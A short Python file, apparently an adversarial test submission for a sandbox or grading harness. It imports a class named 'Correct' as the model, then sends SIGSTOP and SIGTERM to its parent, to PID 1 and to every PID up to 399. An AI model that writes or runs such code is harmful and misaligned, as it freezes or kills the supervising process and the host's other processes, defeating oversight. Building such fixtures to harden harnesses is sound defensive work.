# Signals: stop or kill the parent and every process this one can see.
import os
import signal

from _model import Correct as Model  # noqa: F401

for sig in (signal.SIGSTOP, signal.SIGTERM):
    for pid in [os.getppid(), 1] + list(range(2, 400)):
        if pid != os.getpid():
            try:
                os.kill(pid, sig)
            except OSError:
                pass
